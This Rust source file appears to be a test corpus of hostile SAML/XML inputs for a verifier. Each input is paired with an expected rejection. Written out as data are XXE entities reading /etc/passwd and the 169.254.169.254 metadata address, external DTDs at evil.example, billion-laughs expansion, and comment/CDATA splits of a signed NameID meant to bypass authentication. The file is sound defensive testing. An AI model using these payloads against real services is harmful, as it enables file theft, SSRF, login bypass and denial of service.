//! XML that parsers read in different ways, or that exhausts them.

use super::{Corpus, replaced};
use crate::saml::draft::Draft;
use crate::saml::signing::Signing;

const MALFORMED: &str = "not well-formed";

pub(super) fn add(corpus: &mut Corpus) {
    splitting(corpus);
    entities(corpus);
    encodings(corpus);
    broken(corpus);
    namespaces(corpus);
    sizes(corpus);
}

fn good() -> String {
    Draft::default().response()
}

/// A signed identity that is cut short or joined by markup that canonicalization drops.
fn splitting(corpus: &mut Corpus) {
    let draft = Draft {
        name_id: "<A:NameID>admin@acme.com.evil.example</A:NameID>".to_owned(),
        ..Draft::default()
    };
    let signed = draft.response();
    let both = Draft { sign_response: Some(Signing::default()), ..draft }.response();
    for (what, markup, because) in [
        ("a comment", "<!-- -->", "a comment"),
        ("an empty comment", "<!---->", "a comment"),
        ("a CDATA section", "<![CDATA[]]>", "a CDATA section"),
        ("a processing instruction", "<?x y?>", "a processing instruction"),
    ] {
        for (label, text) in [("assertion signed", &signed), ("both signed", &both)] {
            let places = [
                ("in the NameID", "admin@acme.com"),
                ("in the issuer", "https://idp.example"),
                ("in an audience", "https://sp.example/saml/metadata"),
                ("in an attribute value", ">ada@acme.com"),
                ("between elements", "</saml:Subject>"),
                ("in the signature value", "<ds:SignatureValue>"),
                ("in the digest", "<ds:DigestValue>"),
            ];
            for (place, after) in places {
                corpus.add(
                    format!("{what} {place}, {label}"),
                    replaced(text, after, &format!("{after}{markup}")),
                    "saml.xml",
                    because,
                );
            }
        }
        corpus.add(
            format!("{what} before the root"),
            format!("{markup}{signed}"),
            "saml.xml",
            because,
        );
        corpus.add(
            format!("{what} behind the root"),
            format!("{signed}{markup}"),
            "saml.xml",
            because,
        );
    }
    let whole =
        replaced(&signed, "admin@acme.com.evil.example", "<![CDATA[admin@acme.com.evil.example]]>");
    corpus.add("the whole NameID as CDATA", whole, "saml.xml", "a CDATA section");
}

fn entities(corpus: &mut Corpus) {
    let with =
        |dtd: &str, inside: &str| format!("{dtd}{}", replaced(&good(), "ada@acme.com", inside));
    let laughs: Vec<String> = (1..10)
        .map(|i| format!("<!ENTITY l{i} \"{}\">", format!("&l{};", i - 1).repeat(10)))
        .collect();
    for (what, dtd, inside) in [
        ("an empty DTD", "<!DOCTYPE Response>".to_owned(), "ada@acme.com"),
        ("an entity", "<!DOCTYPE r [<!ENTITY e \"ada@acme.com\">]>".to_owned(), "&e;"),
        (
            "an external entity",
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>".to_owned(),
            "&e;",
        ),
        (
            "an external entity by http",
            "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://169.254.169.254/\">]>".to_owned(),
            "&e;",
        ),
        (
            "an external DTD",
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">".to_owned(),
            "ada@acme.com",
        ),
        (
            "a parameter entity",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]>".to_owned(),
            "ada@acme.com",
        ),
        (
            "default attributes",
            "<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>".to_owned(),
            "ada@acme.com",
        ),
        (
            "a billion laughs",
            format!("<!DOCTYPE r [<!ENTITY l0 \"lol\">{}]>", laughs.concat()),
            "&l9;",
        ),
        (
            "quadratic entities",
            format!("<!DOCTYPE r [<!ENTITY e \"{}\">]>", "x".repeat(50_000)),
            "&e;&e;&e;&e;&e;&e;&e;&e;",
        ),
        ("an entity of itself", "<!DOCTYPE r [<!ENTITY e \"&e;\">]>".to_owned(), "&e;"),
    ] {
        corpus.add(what, with(&dtd, inside), "saml.xml", "a DTD");
    }
    corpus.add(
        "a DTD in the middle",
        replaced(&good(), "<samlp:Status>", "<!DOCTYPE x><samlp:Status>"),
        "saml.xml",
        "a DTD",
    );
    for reference in
        ["&nbsp;", "&e;", "&#0;", "&#xD800;", "&#x110000;", "&#xFFFE;", "&#x1;", "&;", "&#;", "& "]
    {
        corpus.add(
            format!("reference {reference}"),
            replaced(&good(), "ada@", &format!("ada{reference}@")),
            "saml.xml",
            MALFORMED,
        );
    }
}

fn encodings(corpus: &mut Corpus) {
    for encoding in ["UTF-16", "UTF-7", "ISO-8859-1", "EBCDIC-CP-US", "US-ASCII", "x"] {
        corpus.add(
            format!("declared as {encoding}"),
            format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{}", good()),
            "saml.xml",
            "not UTF-8",
        );
    }
    let utf16 = |bytes: fn(u16) -> [u8; 2], mark: &[u8]| {
        [mark.to_vec(), good().encode_utf16().flat_map(bytes).collect()].concat()
    };
    corpus.add("UTF-16, big-endian", utf16(u16::to_be_bytes, b"\xFE\xFF"), "saml.xml", "not UTF-8");
    corpus.add(
        "UTF-16, little-endian",
        utf16(u16::to_le_bytes, b"\xFF\xFE"),
        "saml.xml",
        "not UTF-8",
    );
    corpus.add("UTF-16 without a mark", utf16(u16::to_le_bytes, b""), "saml.xml", MALFORMED);
    let latin = [good().into_bytes(), b"\xE9".to_vec()].concat();
    corpus.add("a byte of Latin-1", latin, "saml.xml", "not UTF-8");
    let overlong: Vec<u8> = good()
        .into_bytes()
        .into_iter()
        .flat_map(|b| if b == b'@' { vec![0xC1, 0x80] } else { vec![b] })
        .collect();
    corpus.add("overlong UTF-8", overlong, "saml.xml", "not UTF-8");
    corpus.add("XML 1.1", format!("<?xml version=\"1.1\"?>{}", good()), "saml.xml", MALFORMED);
    corpus.add("a zero byte", replaced(&good(), "ada@", "ada\0@"), "saml.xml", MALFORMED);
    corpus.add(
        "a control character",
        replaced(&good(), "ada@", "ada\u{1}@"),
        "saml.xml",
        MALFORMED,
    );
    corpus.add(
        "a byte order mark in the middle",
        replaced(&good(), "ada@", "ada\u{feff}@"),
        "saml.sig.ref",
        "changed after",
    );
    corpus.add(
        "a soft hyphen",
        replaced(&good(), "ada@", "ada\u{ad}@"),
        "saml.sig.ref",
        "changed after",
    );
}

fn broken(corpus: &mut Corpus) {
    let good = good();
    let mut add = |what: &str, text: String| corpus.add(what, text, "saml.xml", MALFORMED);
    add("nothing", String::new());
    add("white space", "  \n ".to_owned());
    add("text", "SAML".to_owned());
    add("JSON", "{\"a\":1}".to_owned());
    add("an open root", good.trim_end_matches("</samlp:Response>").to_owned());
    add("half of it", good[..good.len() / 2].to_owned());
    add("a second root", format!("{good}<samlp:Response/>"));
    add("the same twice", format!("{good}{good}"));
    add("text behind the root", format!("{good}x"));
    add("text before the root", format!("x{good}"));
    add("crossed tags", replaced(&good, "</saml:NameID>", "</saml:Name>"));
    add(
        "an attribute twice",
        replaced(&good, " Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\""),
    );
    add(
        "an ID twice on one element",
        replaced(&good, "<saml:Assertion ", "<saml:Assertion ID=\"_x\" "),
    );
    add("an attribute without quotes", replaced(&good, "Version=\"2.0\"", "Version=2.0"));
    add("an attribute without a value", replaced(&good, "Version=\"2.0\"", "Version"));
    add("a bracket in an attribute", replaced(&good, "Version=\"2.0\"", "Version=\"<\""));
    add(
        "a prefix that is not declared",
        replaced(&good, "<saml:Subject>", "<evil:x/><saml:Subject>"),
    );
    add("a colon too many", replaced(&good, "<saml:Subject>", "<saml:a:b/><saml:Subject>"));
    add(
        "a name that starts with a digit",
        replaced(&good, "<saml:Subject>", "<1x/><saml:Subject>"),
    );
    add("a tag in a tag", replaced(&good, "<saml:Subject>", "<saml:Subject <x/>>"));
    add(
        "a declaration in the middle",
        replaced(&good, "\"2.0\"", "\"2.0\"<?xml version=\"1.0\"?>"),
    );
    let second = replaced(&good, "<samlp:Status>", "<?xml version=\"1.0\"?><samlp:Status>");
    corpus.add("a second declaration", second, "saml.xml", "a processing instruction");
    corpus.add(
        "white space before the declaration",
        format!("\n<?xml version=\"1.0\"?>{good}"),
        "saml.xml",
        "a processing instruction",
    );
    corpus.add(
        "a style sheet",
        format!("<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/\"?>{good}"),
        "saml.xml",
        "a processing instruction",
    );
    corpus.add(
        "text in the response",
        replaced(&good, "<samlp:Status>", "x<samlp:Status>"),
        "saml.xml",
        "is not allowed here",
    );
    corpus.add(
        "an unknown child",
        replaced(&good, "<samlp:Status>", "<samlp:Unknown/><samlp:Status>"),
        "saml.xml",
        "is not allowed here",
    );
    for root in ["AuthnRequest", "LogoutRequest", "ArtifactResponse"] {
        corpus.add(
            format!("an {root}"),
            good.replace("samlp:Response", &format!("samlp:{root}")),
            "saml.xml",
            "the root is",
        );
    }
    corpus.add("a bare assertion", Draft::default().assertion(), "saml.xml", "the root is");
    corpus.add(
        "SAML 1.1",
        "<Response xmlns=\"urn:oasis:names:tc:SAML:1.0:protocol\"/>",
        "saml.xml",
        "the root is",
    );
    corpus.add("HTML", "<html><body>Sign in</body></html>", "saml.xml", "the root is");
}

fn namespaces(corpus: &mut Corpus) {
    let good = good();
    let (assertion, protocol) =
        ("urn:oasis:names:tc:SAML:2.0:assertion", "urn:oasis:names:tc:SAML:2.0:protocol");
    for (what, other) in [
        ("a longer", "urn:oasis:names:tc:SAML:2.0:assertion2"),
        ("an upper-case", "URN:oasis:names:tc:SAML:2.0:assertion"),
        ("the 1.1", "urn:oasis:names:tc:SAML:1.0:assertion"),
    ] {
        corpus.add(
            format!("{what} assertion namespace"),
            good.replace(assertion, other),
            "saml.xml",
            "is not allowed here",
        );
    }
    corpus.add(
        "another protocol namespace",
        good.replace(protocol, "urn:evil"),
        "saml.xml",
        "the root is",
    );
    corpus.add(
        "no namespace for the root",
        good.replace("samlp:Response", "Response"),
        "saml.xml",
        "the root is",
    );
    corpus.add(
        "a relative namespace",
        replaced(&good, "<saml:Subject>", "<saml:Subject xmlns:q=\"relative\">"),
        "saml.xml",
        "not an absolute URI",
    );
    corpus.add(
        "an empty prefixed namespace",
        replaced(&good, "<saml:Subject>", "<saml:Subject xmlns:q=\"\">"),
        "saml.xml",
        "not an absolute URI",
    );
    corpus.add(
        "the xml prefix bound elsewhere",
        replaced(&good, "<saml:Subject>", "<saml:Subject xmlns:xml=\"urn:evil\">"),
        "saml.xml",
        MALFORMED,
    );
    corpus.add(
        "xmlns bound",
        replaced(&good, "<saml:Subject>", "<saml:Subject xmlns:xmlns=\"urn:evil\">"),
        "saml.xml",
        MALFORMED,
    );
    let rebound = replaced(&good, "<saml:NameID ", "<saml:NameID xmlns:saml=\"urn:evil\" ");
    corpus.add("the assertion prefix bound anew", rebound, "saml.xml", "is not allowed here");
    corpus.add(
        "one attribute by two prefixes",
        replaced(
            &good,
            "<saml:Subject>",
            "<saml:Subject xmlns:p=\"urn:x\" xmlns:q=\"urn:x\" p:a=\"1\" q:a=\"2\">",
        ),
        "saml.xml",
        MALFORMED,
    );
    for name in [
        "Assertion",
        "Response",
        "Signature",
        "Conditions",
        "Subject",
        "AuthnStatement",
        "Issuer",
        "Status",
    ] {
        let foreign = replaced(
            &good,
            "</saml:Assertion>",
            &format!("<e:{name} xmlns:e=\"urn:evil\"/></saml:Assertion>"),
        );
        corpus.add(
            format!("{name} of another namespace"),
            foreign,
            "saml.xml",
            "is not allowed here",
        );
    }
}

fn sizes(corpus: &mut Corpus) {
    let good = good();
    let within =
        |inside: &str| replaced(&good, "</saml:Assertion>", &format!("{inside}</saml:Assertion>"));
    corpus.add("10 MB of text", within(&"x".repeat(10_000_000)), "saml.form", "too many");
    corpus.add(
        "10 MB of white space",
        good.clone() + &" ".repeat(10_000_000),
        "saml.form",
        "too many",
    );
    corpus.add("300,000 elements", within(&"<a/>".repeat(300_000)), "saml.form", "too many");
    corpus.add("100,000 elements", within(&"<a/>".repeat(100_000)), "saml.xml", "too many nodes");
    corpus.add("100,000 levels", within(&"<a>".repeat(100_000)), "saml.xml", "nested deeper");
    corpus.add(
        "41 levels",
        within(&format!("{}{}", "<a>".repeat(41), "</a>".repeat(41))),
        "saml.xml",
        "nested deeper",
    );
    let attributes: Vec<String> = (0..20_000).map(|i| format!("a{i}=\"\" ")).collect();
    corpus.add(
        "20,000 attributes",
        within(&format!("<a {}/>", attributes.concat())),
        "saml.xml",
        "attributes on one element",
    );
    let namespaces: Vec<String> = (0..10_000).map(|i| format!("xmlns:a{i}=\"u:{i}\" ")).collect();
    corpus.add(
        "10,000 namespaces on one element",
        within(&format!("<a {}/>", namespaces.concat())),
        "saml.xml",
        "attributes on one element",
    );
    let nested: String = (0..30)
        .map(|i| {
            format!(
                "<a{}>",
                (0..30).map(|j| format!(" xmlns:p{i}x{j}=\"u:{j}\"")).collect::<Vec<_>>().concat()
            )
        })
        .collect::<Vec<_>>()
        .concat();
    corpus.add("namespaces level by level", within(&nested), "saml.xml", "namespaces in scope");
    corpus.add(
        "a name of 400 kB",
        within(&format!("<{}/>", "a".repeat(400_000))),
        "saml.sig.ref",
        "changed after",
    );
    corpus.add(
        "an attribute value of 400 kB",
        within(&format!("<a b=\"{}\"/>", "&amp;".repeat(80_000))),
        "saml.sig.ref",
        "changed after",
    );
    corpus.add(
        "400 kB of references",
        within(&"&#65;".repeat(80_000)),
        "saml.sig.ref",
        "changed after",
    );
    corpus.add(
        "a signature value of 400 kB",
        replaced(
            &good,
            "<ds:SignatureValue>",
            &format!("<ds:SignatureValue>{}", "A".repeat(400_000)),
        ),
        "saml.sig.key",
        "no trusted key",
    );
    corpus.add("100,000 open brackets", "<".repeat(100_000), "saml.xml", MALFORMED);
    corpus.add(
        "an attribute that never ends",
        format!("<a b=\"{}", "x".repeat(400_000)),
        "saml.xml",
        MALFORMED,
    );
    let many = "<saml:AttributeStatement><saml:Attribute Name=\"g\">".to_owned()
        + &"<saml:AttributeValue>g</saml:AttributeValue>".repeat(9000)
        + "</saml:Attribute></saml:AttributeStatement>";
    corpus.add("9,000 unsigned values", within(&many), "saml.sig.ref", "changed after");
}
